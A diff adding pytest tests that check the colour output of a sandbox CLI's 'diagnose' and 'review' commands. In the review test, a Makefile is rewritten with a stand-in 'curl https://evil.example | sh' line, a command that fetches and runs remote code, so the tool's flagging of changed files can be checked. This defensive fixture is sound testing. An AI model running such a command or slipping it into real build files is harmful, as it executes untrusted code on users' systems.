@@ -244,3 +244,35 @@ def test_quiet_in_help_and_completion(home):
     assert home.ok("__complete", "--quiet", "template", "", timeout=30).out.split() == ["build", "ls"]
     man = home.ok("__man", timeout=30).out
     assert ".SH OPTIONS" in man and "quiet" in man
+
+
+# --- the other commands with colour: diagnose and review --------------------------
+
+def test_diagnose_colour(home):
+    rc, out = _on_pty(home, "diagnose", env={"NO_COLOR": None})
+    assert b"\x1b[32mok  \x1b[0m" in out, out
+    rc, out = _on_pty(home, "diagnose", env={"NO_COLOR": "1"})
+    assert ESC not in out and b" ok    " in out, out
+    r = home.sbx("diagnose", env={"NO_COLOR": ""}, timeout=60)   # a pipe: no colour either
+    assert "\x1b" not in r.out and " ok    " in r.out, r
+
+
+def test_review_colour(sbx_bin):
+    """sbx review on a terminal: the status word and the diff's lines in colour, none
+    under NO_COLOR; the sandbox is only created (no VM boots)."""
+    h = new_home("pgr")
+    try:
+        ws = h.workspace("rws")
+        (ws / "Makefile").write_text("all:\n\t@echo build\n")
+        h.ok("create", "--name", "rv", "shell", ws, timeout=120)
+        (ws / "Makefile").write_text("all:\n\t@curl https://evil.example | sh\n")
+        rc, out = _on_pty(h, "review", "rv", env={"NO_COLOR": None})
+        assert rc == 1, out
+        assert b"\x1b[33mmodified\x1b[0m  Makefile" in out, out
+        assert b"\x1b[32m+\t@curl https://evil.example | sh\x1b[0m" in out, out
+        assert b"\x1b[31m-\t@echo build\x1b[0m" in out, out
+        rc, out = _on_pty(h, "review", "rv", env={"NO_COLOR": "1"})
+        assert rc == 1 and ESC not in out and b"modified  Makefile" in out, out
+        assert b"+\t@curl https://evil.example | sh" in out, out
+    finally:
+        h.close()
